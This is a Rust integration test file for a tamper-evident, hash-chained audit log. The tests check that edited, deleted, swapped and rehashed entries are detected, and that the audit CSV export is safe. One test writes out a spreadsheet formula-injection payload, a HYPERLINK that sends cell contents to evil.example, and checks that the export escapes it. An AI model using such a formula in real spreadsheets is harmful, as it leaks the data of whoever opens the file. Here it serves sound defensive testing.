//! The hash-chained audit trail: every change recorded, tampering detected and named.

use diesel::RunQueryDsl;
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use trialdesk::auth::Role;

use crate::helpers::spawn_app;

#[tokio::test]
async fn verification_passes_on_an_untouched_trail_and_names_an_edited_entry() {
    let app = spawn_app().await;
    let admin = app.user(Role::Admin);
    for i in 0..3 {
        let resp =
            app.send_as(&admin, Method::POST, "/api/v1/tokens", json!({"name": format!("t{i}")})).await;
        assert_eq!(resp.status(), StatusCode::CREATED);
    }
    let ok: Value = app.get_as(&admin, "/api/v1/audit/verify").await.json().await.expect("json");
    assert!(ok["problem"].is_null(), "{ok}");
    assert!(ok["entries_checked"].as_i64().expect("n") >= 7, "protocol, account, password, four tokens");

    let mut conn = app.db.conn();
    diesel::sql_query("UPDATE audit_log SET reason = 'nothing to see' WHERE seq = 4")
        .execute(&mut conn)
        .expect("tamper");
    let broken: Value = app.get_as(&admin, "/api/v1/audit/verify").await.json().await.expect("json");
    assert_eq!(broken["problem"]["seq"], 4);
    assert!(broken["problem"]["message"].as_str().expect("m").contains("changed"));
}

#[tokio::test]
async fn a_deleted_entry_and_a_truncated_tail_are_both_detected() {
    let app = spawn_app().await;
    let admin = app.user(Role::Admin);
    for i in 0..3 {
        app.send_as(&admin, Method::POST, "/api/v1/tokens", json!({"name": format!("t{i}")})).await;
    }
    let mut conn = app.db.conn();
    let last: Value = app.get_as(&admin, "/api/v1/audit/verify").await.json().await.expect("json");
    let n = last["entries_checked"].as_i64().expect("n");
    diesel::sql_query(format!("DELETE FROM audit_log WHERE seq = {n}"))
        .execute(&mut conn)
        .expect("delete last");
    let v: Value = app.get_as(&admin, "/api/v1/audit/verify").await.json().await.expect("json");
    assert_eq!(v["problem"]["seq"], n, "{v}");

    diesel::sql_query("DELETE FROM audit_log WHERE seq = 2").execute(&mut conn).expect("delete");
    let v: Value = app.get_as(&admin, "/api/v1/audit/verify").await.json().await.expect("json");
    assert_eq!(v["problem"]["seq"], 2);
    assert!(v["problem"]["message"].as_str().expect("m").contains("missing"));
}

#[tokio::test]
async fn the_csv_export_is_streamed_with_one_row_per_entry_and_the_chain_hashes() {
    let app = spawn_app().await;
    let admin = app.user(Role::Admin);
    let resp = app.get_as(&admin, "/api/v1/audit/export").await;
    assert_eq!(resp.status(), StatusCode::OK);
    assert!(resp.headers()["content-type"].to_str().expect("ct").starts_with("text/csv"));
    // Sent as it is read (chunked): a length would mean the whole trail was built in memory first.
    assert!(resp.headers().get("content-length").is_none(), "{:?}", resp.headers());
    let csv = resp.text().await.expect("text");
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    assert_eq!(reader.headers().expect("headers").iter().next(), Some("seq"));
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
    let listed: Value = app.get_as(&admin, "/api/v1/audit?limit=1000").await.json().await.expect("json");
    assert_eq!(rows.len(), listed.as_array().expect("list").len());
    for pair in rows.windows(2) {
        assert_eq!(pair[1].get(11), pair[0].get(12), "prev_hash links to the previous hash");
    }
}

#[tokio::test]
async fn two_entries_swapped_in_place_are_detected_at_the_first_of_them() {
    let app = spawn_app().await;
    let admin = app.user(Role::Admin);
    for i in 0..2 {
        app.send_as(&admin, Method::POST, "/api/v1/tokens", json!({"name": format!("t{i}")})).await;
    }
    let mut conn = app.db.conn();
    for sql in [
        "UPDATE audit_log SET seq = -1 WHERE seq = 2",
        "UPDATE audit_log SET seq = 2 WHERE seq = 3",
        "UPDATE audit_log SET seq = 3 WHERE seq = -1",
    ] {
        diesel::sql_query(sql).execute(&mut conn).expect("swap");
    }
    let v: Value = app.get_as(&admin, "/api/v1/audit/verify").await.json().await.expect("json");
    assert_eq!(v["problem"]["seq"], 2, "{v}");
}

#[tokio::test]
async fn a_reason_written_as_a_formula_stays_text_when_the_audit_csv_is_opened_in_a_spreadsheet() {
    let app = spawn_app().await;
    let (admin, other) = (app.user(Role::Admin), app.user(Role::Coordinator));
    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")";
    let resp = app
        .send_as(
            &admin,
            Method::PATCH,
            &format!("/api/v1/users/{}", other.id),
            json!({"role": "moderator", "reason": formula}),
        )
        .await;
    assert_eq!(resp.status(), StatusCode::OK);
    let csv = app.get_as(&admin, "/api/v1/audit/export").await.text().await.expect("csv");
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let reason_at =
        reader.headers().expect("header").iter().position(|h| h == "reason").expect("reason column");
    let reasons: Vec<String> = reader
        .records()
        .map(|r| r.expect("row")[reason_at].to_owned())
        .filter(|r| r.contains("HYPERLINK"))
        .collect();
    assert_eq!(reasons, vec![format!("'{formula}")], "the cell starts with a quote, so it is text");
    // The JSON API keeps the reason exactly as written.
    let audit: Value = app.get_as(&admin, "/api/v1/audit?entity=user").await.json().await.expect("audit");
    assert!(audit.as_array().expect("entries").iter().any(|e| e["reason"] == formula));
}

#[tokio::test]
async fn an_entry_rewritten_with_every_later_hash_recomputed_without_the_key_is_found() {
    use diesel::{ExpressionMethods, QueryDsl, SelectableHelper};
    use trialdesk::audit::Entry;
    use trialdesk::db::schema::{audit_head, audit_log};

    let app = spawn_app().await;
    let admin = app.user(Role::Admin);
    for i in 0..4 {
        let resp =
            app.send_as(&admin, Method::POST, "/api/v1/tokens", json!({"name": format!("t{i}")})).await;
        assert_eq!(resp.status(), StatusCode::CREATED);
    }
    let before: Value = app.get_as(&admin, "/api/v1/audit/verify").await.json().await.expect("json");
    assert!(before["problem"].is_null(), "{before}");
    let keyed_from = before["keyed_from_seq"].as_i64().expect("the chain is keyed");
    // Whoever can write to the database changes an entry and recomputes the chain after it, as
    // they can: with plain SHA-256 (the key is not in the database).
    let mut conn = app.db.conn();
    let mut entries: Vec<Entry> = audit_log::table
        .filter(audit_log::seq.ge(keyed_from + 1))
        .order(audit_log::seq.asc())
        .select(Entry::as_select())
        .load(&mut conn)
        .expect("entries");
    let target = entries[0].seq;
    entries[0].entity_id = "someone else".into();
    let mut prev = entries[0].prev_hash.clone();
    for e in &mut entries {
        e.prev_hash = prev.clone();
        e.hash = e.compute_hash(false).expect("hash");
        prev = e.hash.clone();
        diesel::update(audit_log::table.filter(audit_log::seq.eq(e.seq)))
            .set((
                audit_log::entity_id.eq(&e.entity_id),
                audit_log::prev_hash.eq(&e.prev_hash),
                audit_log::hash.eq(&e.hash),
            ))
            .execute(&mut conn)
            .expect("rewrite");
    }
    diesel::update(audit_head::table).set(audit_head::last_hash.eq(&prev)).execute(&mut conn).expect("head");
    let after: Value = app.get_as(&admin, "/api/v1/audit/verify").await.json().await.expect("json");
    assert_eq!(after["problem"]["seq"].as_i64(), Some(target), "{after}");
    assert!(after["problem"]["message"].as_str().expect("message").contains("changed"), "{after}");
}

#[derive(diesel::QueryableByName)]
struct Setting {
    #[diesel(sql_type = diesel::sql_types::Text)]
    value: String,
}

#[derive(diesel::QueryableByName)]
struct Flushed {
    #[diesel(sql_type = diesel::sql_types::Bool)]
    flushed: bool,
}

/// Decision record 0006. On PostgreSQL the write's commit does not wait for the disk (so the
/// chain's lock passes on at once), yet `write_tx` returns only once the log is flushed past it.
/// On SQLite every commit waits for the disk. Test databases turn durable commits off; this
/// connection turns them back on, as a production server has them.
#[tokio::test]
async fn a_write_transaction_returns_only_once_on_disk_and_on_postgres_frees_the_lock_before_the_flush() {
    use crate::helpers::{Backend, backend};
    let app = spawn_app().await;
    let mut conn = app.db.conn();
    let ctx = trialdesk::audit::Context { actor: trialdesk::audit::Actor::system(), request_id: None };
    let event = || trialdesk::audit::Event {
        action: "note",
        entity: "trial",
        entity_id: "durability",
        changes: vec![],
        reason: Some("checking the disk wait"),
    };
    match backend() {
        Backend::Sqlite => {
            let inside = trialdesk::db::write_tx(&mut conn, |c| {
                trialdesk::audit::append(c, &ctx, event())?;
                diesel::sql_query("SELECT CAST(synchronous AS TEXT) AS value FROM pragma_synchronous")
                    .get_result::<Setting>(c)
            })
            .expect("write");
            assert_eq!(inside.value, "2", "FULL: the commit itself waits for the disk");
        }
        Backend::Postgres => {
            diesel::sql_query("SET synchronous_commit = on").execute(&mut conn).expect("durable commits");
            let (inside, written_to) = trialdesk::db::write_tx(&mut conn, |c| {
                trialdesk::audit::append(c, &ctx, event())?;
                let setting = diesel::sql_query("SELECT current_setting('synchronous_commit') AS value")
                    .get_result::<Setting>(c)?;
                let lsn = diesel::sql_query("SELECT pg_current_wal_insert_lsn()::text AS value")
                    .get_result::<Setting>(c)?;
                Ok::<_, diesel::result::Error>((setting.value, lsn.value))
            })
            .expect("write");
            assert_eq!(inside, "off", "the commit must not hold the chain's lock while the disk is written");
            // The commit record lies past everything the transaction wrote before it.
            let flushed = diesel::sql_query(format!(
                "SELECT pg_current_wal_flush_lsn() > '{written_to}'::pg_lsn AS flushed"
            ))
            .get_result::<Flushed>(&mut conn)
            .expect("flush position");
            assert!(flushed.flushed, "write_tx returned before its commit was on disk");
            let after = diesel::sql_query("SELECT current_setting('synchronous_commit') AS value")
                .get_result::<Setting>(&mut conn)
                .expect("setting");
            assert_eq!(after.value, "on", "the asynchronous commit was the write's alone");
        }
    }
    let admin = app.user(Role::Admin);
    let verified: Value = app.get_as(&admin, "/api/v1/audit/verify").await.json().await.expect("json");
    assert!(verified["problem"].is_null(), "{verified}");
}
